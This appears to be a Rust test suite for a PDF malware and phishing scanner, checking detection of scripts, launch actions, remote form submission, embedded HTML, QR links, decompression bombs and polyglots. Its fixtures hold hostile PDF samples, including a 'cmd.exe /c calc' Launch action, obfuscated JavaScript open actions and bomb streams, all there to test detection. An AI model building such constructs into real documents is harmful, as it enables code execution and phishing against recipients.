//! PDFs: what runs, opens, sends, is embedded or linked; and what is built to be misread.

mod both;
mod build;

use both::inspect;
use build::pdf::Pdf;
use build::picture::{code, pixels, zlib};
use miwake_inspect::{File, Hints, IndicatorKind, Inspection, Limits, LinkSource, Unread};

fn all(bytes: &[u8]) -> Inspection {
    inspect("a.pdf", bytes, &Hints::default(), &Limits::DEFAULT)
}

fn first(bytes: &[u8]) -> File {
    all(bytes)
        .files
        .into_iter()
        .next()
        .expect("the attachment itself is always told")
}

fn quote(file: &File, kind: IndicatorKind) -> Option<&str> {
    let indicator = file
        .indicators
        .iter()
        .find(|indicator| indicator.kind == kind);
    indicator.map(|indicator| indicator.quote.as_str())
}

fn hrefs(file: &File, from: LinkSource) -> Vec<&str> {
    let links = file.links.iter().filter(|link| link.from == from);
    links.map(|link| link.href.as_str()).collect()
}

const LONG: &str = "BT /F1 12 Tf (An ordinary letter of some length that fills the page with words that people read.) Tj ET\n";
const LINK: &str = "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << /S /URI /URI (https://pay.test/a?b=\\(1\\)) >> >>]";

#[test]
fn an_ordinary_file_has_no_signs() {
    let pdf = Pdf::page("/OpenAction [3 0 R /Fit]", LINK, &LONG.repeat(20)).build();
    let file = first(&pdf);
    assert_eq!(file.format, "pdf");
    assert_eq!(
        (
            file.indicators.as_slice(),
            file.unread.as_slice(),
            file.encrypted
        ),
        (&[][..], &[][..], false)
    );
    assert_eq!(hrefs(&file, LinkSource::Link), ["https://pay.test/a?b=(1)"]);
}

#[test]
fn one_link_and_no_text_is_a_lure() {
    let file = first(&Pdf::page("", LINK, "q 595 0 0 842 0 0 cm /Im0 Do Q").build());
    assert_eq!(
        quote(&file, IndicatorKind::OneLinkLure),
        Some("https://pay.test/a?b=(1)")
    );
}

#[test]
fn text_that_is_elsewhere_or_cannot_be_read_makes_no_lure() {
    let text = LONG.repeat(10);
    let form =
        Pdf::page("", LINK, "/Fm Do").stream(7, "/Type /XObject /Subtype /Form", text.as_bytes());
    let packed = Pdf::page("", LINK, "/Fm Do").raw_stream(7, "/Filter /LZWDecode", b"BT (x) Tj ET");
    for pdf in [form, packed] {
        assert_eq!(
            quote(&first(&pdf.build()), IndicatorKind::OneLinkLure),
            None
        );
    }
}

#[test]
fn what_is_left_out_is_told() {
    let dots = "/Subtype /Image /Width 30 /Height 30 /BitsPerComponent 1";
    let many = (5..60).fold(Pdf::page("", "", LONG), |pdf, number| {
        pdf.stream(number, dots, &[0; 120])
    });
    assert_eq!(first(&many.build()).unread, [Unread::TooMany]);
    let filters = format!("/Type /EmbeddedFile /Filter [{}]", "/AHx ".repeat(6));
    let deep = Pdf::page("", "", LONG).raw_stream(5, &filters, b"4d");
    assert_eq!(first(&deep.build()).unread, [Unread::Unsupported]);
}

#[test]
fn scripts_are_told_wherever_they_stand() {
    let inline = Pdf::page(
        "/OpenAction << /S /JavaScript /JS (app.launchURL\\('https://js.test/'\\)) >>",
        "",
        LONG,
    );
    let referred = Pdf::page("/OpenAction 5 0 R", "", LONG)
        .object(5, "<< /S /JavaScript /JS 6 0 R >>")
        .stream(6, "", b"app.launchURL('https://js.test/')");
    let hidden = Pdf::page("/OpenAction 5 0 R", "", LONG)
        .object(5, "<< /#53 /#4aavaScrip#74 /J#53 <6170702e6c61756e636855524c282768747470733a2f2f6a732e746573742f2729> >>");
    let packed = Pdf::page("/OpenAction 5 0 R", "", LONG).objects(
        7,
        &[
            (
                5,
                "<< /S /JavaScript /JS (app.launchURL\\('https://js.test/'\\)) >>",
            ),
            (6, "<< /A 1 >>"),
        ],
    );
    for pdf in [inline, referred, hidden, packed] {
        let file = first(&pdf.build());
        assert_eq!(
            quote(&file, IndicatorKind::PdfScript),
            Some("app.launchURL('https://js.test/')")
        );
        assert_eq!(
            quote(&file, IndicatorKind::PdfOpenAction),
            Some("JavaScript")
        );
        assert_eq!(hrefs(&file, LinkSource::Text), ["https://js.test/"]);
    }
}

#[test]
fn updates_and_older_versions_are_both_read() {
    let mut pdf = Pdf::page("", LINK, LONG).build();
    pdf.extend(b"5 0 obj << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >> endobj\nxref\n0 0\ntrailer << /Root 1 0 R >>\n%%EOF\n");
    let file = first(&pdf);
    assert_eq!(
        quote(&file, IndicatorKind::PdfLaunch),
        Some("cmd.exe /c calc")
    );
    assert_eq!(hrefs(&file, LinkSource::Link).len(), 1);
}

#[test]
fn forms_that_send_and_files_elsewhere_are_told() {
    let pdf = Pdf::page("", "/AA << /O 6 0 R >>", LONG)
        .object(
            5,
            "<< /S /SubmitForm /F << /FS /URL /F (https://collect.test/) >> >>",
        )
        .object(6, "<< /S /GoToR /F (\\\\\\\\share.test\\\\x.pdf) >>")
        .build();
    let file = first(&pdf);
    assert_eq!(
        quote(&file, IndicatorKind::PdfForm),
        Some("https://collect.test/")
    );
    assert_eq!(hrefs(&file, LinkSource::Form), ["https://collect.test/"]);
    assert_eq!(
        quote(&file, IndicatorKind::OpensRemote),
        Some("\\\\share.test\\x.pdf")
    );
    assert_eq!(quote(&file, IndicatorKind::PdfOpenAction), Some("GoToR"));
}

#[test]
fn embedded_files_are_looked_at() {
    let pdf = Pdf::page("/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>", "", LONG)
        .object(5, "<< /Type /Filespec /F (x.html) /UF <feff8acb6c42002e00680074006d006c> /EF << /F 6 0 R >> >>")
        .stream(6, "/Type /EmbeddedFile", b"<html><form action='https://c.test'><input type=password></form></html>")
        .build();
    let inside = all(&pdf);
    let [outer, inner] = inside.files.as_slice() else {
        panic!("two files: {:?}", inside.files);
    };
    assert_eq!(quote(outer, IndicatorKind::EmbeddedFile), Some("請求.html"));
    assert_eq!(inner.name, "請求.html");
    assert!(quote(inner, IndicatorKind::PasswordField).is_some());
}

#[test]
fn encrypted_files_say_so() {
    let mut pdf = Pdf::page("", LINK, LONG)
        .object(9, "<< /Filter /Standard /V 2 /R 3 /O (x) /U (y) /P -4 >>");
    pdf.trailer = "/Encrypt 9 0 R".to_owned();
    let file = first(&pdf.build());
    assert!(file.encrypted);
    assert_eq!(file.unread, [Unread::Encrypted]);
    assert_eq!(file.links, []);
}

#[test]
fn codes_in_pictures_are_read() {
    let url = "https://qr.test/login";
    let rows = pixels(&code(url.as_bytes()), 4);
    let size = rows.len();
    let grey: Vec<u8> = rows.concat();
    let rgb: Vec<u8> = grey.iter().flat_map(|v| [*v; 3]).collect();
    let bits: Vec<u8> = rows
        .iter()
        .flat_map(|row| {
            row.chunks(8)
                .map(|c| {
                    c.iter()
                        .enumerate()
                        .fold(0u8, |b, (i, v)| b | u8::from(*v > 128) << (7 - i))
                })
                .collect::<Vec<u8>>()
        })
        .collect();
    let filtered: Vec<u8> = rows
        .iter()
        .flat_map(|row| {
            let mut last = 0u8;
            let line: Vec<u8> = row
                .iter()
                .map(|v| {
                    let d = v.wrapping_sub(last);
                    last = *v;
                    d
                })
                .collect();
            [vec![1], line].concat()
        })
        .collect();
    let image = format!("/Type /XObject /Subtype /Image /Width {size} /Height {size}");
    for (entries, data) in [
        ("/ColorSpace /DeviceGray /BitsPerComponent 8", grey),
        ("/ColorSpace [/ICCBased 8 0 R] /BitsPerComponent 8", rgb),
        ("/ColorSpace /DeviceGray /BitsPerComponent 1", bits.clone()),
        (
            "/ColorSpace [/Indexed /DeviceRGB 1 <000000ffffff>] /BitsPerComponent 1",
            bits,
        ),
        (
            "/ColorSpace /DeviceGray /BitsPerComponent 8 /DecodeParms << /Predictor 15 /Columns 100 >>",
            filtered,
        ),
    ] {
        let pdf = Pdf::page("", "", LONG)
            .stream(5, &format!("{image} {entries}"), &data)
            .build();
        assert_eq!(hrefs(&first(&pdf), LinkSource::QrCode), [url], "{entries}");
    }
}

#[test]
fn bombs_are_stopped() {
    let zeros = vec![b' '; 40 * 1024 * 1024];
    let pdf = Pdf::page("", "", LONG)
        .stream(5, "/Type /ObjStm /N 1 /First 4", &zeros)
        .build();
    let unread = first(&pdf).unread;
    assert!(
        matches!(unread.as_slice(), [Unread::Bomb | Unread::TooLarge]),
        "{unread:?}"
    );
    let twice = zlib(&zlib(&zeros));
    let pdf = Pdf::page("", "", LONG)
        .raw_stream(
            5,
            "/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]",
            &twice,
        )
        .build();
    let unread = first(&pdf).unread;
    assert!(
        matches!(unread.as_slice(), [Unread::Bomb | Unread::TooLarge]),
        "{unread:?}"
    );
    let flood = Pdf::page("", "", LONG)
        .stream(
            5,
            "/Subtype /Image /Width 65535 /Height 65535 /BitsPerComponent 8 /ColorSpace /DeviceRGB",
            b"x",
        )
        .build();
    assert_eq!(first(&flood).unread, [Unread::TooLarge]);
    let deep = Pdf::page("", &format!("/X {}", "<< /A ".repeat(50_000)), LONG).build();
    assert_eq!(first(&deep).unread, [Unread::Broken]);
    let open = format!("%PDF-1.4\n{}%%EOF", "1 0 obj (".repeat(200_000));
    assert!(first(open.as_bytes()).unread.contains(&Unread::Broken));
    let streams = format!("%PDF-1.4\n{}%%EOF", "1 0 obj <<>> stream\n".repeat(100_000));
    assert!(first(streams.as_bytes()).unread.contains(&Unread::Broken));
    let digits = "1 0 obj <</Type/ObjStm/Filter/AHx>> stream\n".repeat(50_000);
    let digits = format!("%PDF-1.4\n{digits}%%EOF");
    assert!(first(digits.as_bytes()).unread.contains(&Unread::TooLarge));
    // Each to the end of the file, in blocks that pass over the next one's head.
    let blocks = "1 0 obj <</Type/ObjStm/First 0/Filter/Fl>> stream\n".repeat(3_000);
    let blocks = format!("%PDF-1.4\n{blocks}{}%%EOF", " ".repeat(100_000));
    assert!(first(blocks.as_bytes()).unread.contains(&Unread::TooLarge));
    let header = "1 0 1 900000 ".repeat(20_000);
    let entries = format!("/Type /ObjStm /N 40000 /First {}", header.len());
    let body = format!("{header}<< /A {}>>", "(x)".repeat(300_000));
    let over = Pdf::page("", "", LONG).stream(5, &entries, body.as_bytes());
    // Objects that stand within one another are no list.
    assert_eq!(first(&over.build()).unread, [Unread::Broken]);
}

#[test]
fn what_is_said_by_reference_is_read() {
    let script = |file: &File| quote(file, IndicatorKind::PdfScript).map(str::to_owned);
    // Type of an action, script, address and file name in objects of their own, also behind and in an object stream.
    let pdf = Pdf::page("/OpenAction 5 0 R", "/A << /S 10 0 R /URI 11 0 R >>", LONG)
        .object(5, "<< /S 6 0 R /JS 7 0 R >>")
        .object(6, "/JavaScript")
        .object(7, "(app.alert\\(1\\))")
        .objects(20, &[(10, "/URI"), (11, "(https://there.test/)")])
        .build();
    let file = first(&pdf);
    assert_eq!(script(&file).as_deref(), Some("app.alert(1)"));
    assert_eq!(hrefs(&file, LinkSource::Link), ["https://there.test/"]);
    // An object stream that says everything by reference, and one with rows alike.
    let object = "<< /S /JavaScript /JS (app.alert\\(2\\)) >>";
    let stream = format!("8 0 {object}");
    let pdf = Pdf::page("/OpenAction 8 0 R", "", LONG)
        .object(30, "/ObjStm")
        .object(31, "4")
        .object(32, "[/FlateDecode]")
        .raw_stream(
            33,
            "/Type 30 0 R /N 1 /First 31 0 R /Filter 32 0 R",
            &zlib(stream.as_bytes()),
        )
        .build();
    assert_eq!(script(&first(&pdf)).as_deref(), Some("app.alert(2)"));
    let mut rows = vec![];
    for row in stream.as_bytes().chunks(4) {
        rows.push(1);
        let mut left = 0u8;
        for byte in row {
            rows.push(byte.wrapping_sub(left));
            left = *byte;
        }
    }
    for (filter, content) in [
        (
            "/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>",
            zlib(&rows),
        ),
        ("/Filter /RunLengthDecode", run_length(stream.as_bytes())),
    ] {
        let entries = format!("/Type /ObjStm /N 1 /First 4 {filter}");
        let pdf = Pdf::page("/OpenAction 8 0 R", "", LONG).raw_stream(33, &entries, &content);
        assert_eq!(
            script(&first(&pdf.build())).as_deref(),
            Some("app.alert(2)")
        );
    }
    // A list that nobody can be found in is told.
    let pdf = Pdf::page("", "", LONG).stream(33, "/Type /ObjStm /N 1 /First 99 0 R", b"8 0 <<>>");
    assert_eq!(first(&pdf.build()).unread, [Unread::Broken]);
}

/// Runs of one length each.
fn run_length(bytes: &[u8]) -> Vec<u8> {
    let runs = bytes.chunks(100);
    let mut out: Vec<u8> = runs
        .flat_map(|run| [&[run.len() as u8 - 1], run].concat())
        .collect();
    out.push(128);
    out
}

#[test]
fn nothing_is_hidden_by_crowds_of_entries_or_comments() {
    let others: String = (0..2_000).map(|n| format!("/K{n} {n} 0 R ")).collect();
    let body = format!("<< {others} /S /JavaScript /JS (app.alert\\(3\\)) >>");
    let pdf = Pdf::page("", "", LONG).object(5, &body).build();
    assert_eq!(
        quote(&first(&pdf), IndicatorKind::PdfScript),
        Some("app.alert(3)")
    );
    let pdf = Pdf::page("", "", LONG)
        .object(6, "<< /S /Launch /F (a.exe) >>")
        .build();
    let from = memchr::memmem::find(&pdf, b"6 0 obj").expect("just written");
    let gaps = [
        "6 0 % comment\nobj".to_owned(),
        format!("6{}0 obj", " ".repeat(40)),
    ];
    for gap in gaps {
        let pdf = [&pdf[..from], gap.as_bytes(), &pdf[from + 7..]].concat();
        assert_eq!(
            quote(&first(&pdf), IndicatorKind::PdfLaunch),
            Some("a.exe"),
            "{gap}"
        );
    }
}

#[test]
fn files_that_are_pages_too_are_told() {
    let mut both = b"<html><script>alert(1)</script>\0\0\0".to_vec();
    both.extend(Pdf::page("", "", LONG).build());
    assert_eq!(
        quote(&first(&both), IndicatorKind::Polyglot),
        Some("<script + pdf")
    );
}

#[test]
fn damage_never_stops_reading() {
    let pdf = Pdf::page("/OpenAction << /S /JavaScript /JS (x) >>", LINK, LONG)
        .objects(7, &[(5, "<< /S /Launch /F (a) >>"), (6, "<< /S /URI /URI (https://a.test) >>")])
        .stream(8, "/Type /EmbeddedFile", b"hello")
        .stream(9, "/Subtype /Image /Width 30 /Height 30 /BitsPerComponent 1 /ColorSpace [/Indexed /DeviceRGB 1 <000000ffffff>]", &[0; 120])
        .build();
    for end in 0..pdf.len() {
        first(pdf.get(..end).unwrap_or_default());
    }
    let mut state = 3u32;
    for _ in 0..3_000 {
        let mut broken = pdf.clone();
        for _ in 0..4 {
            state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
            let at = (state >> 8) as usize % broken.len();
            if let Some(byte) = broken.get_mut(at) {
                *byte = (state >> 3) as u8;
            }
        }
        first(&broken);
    }
}
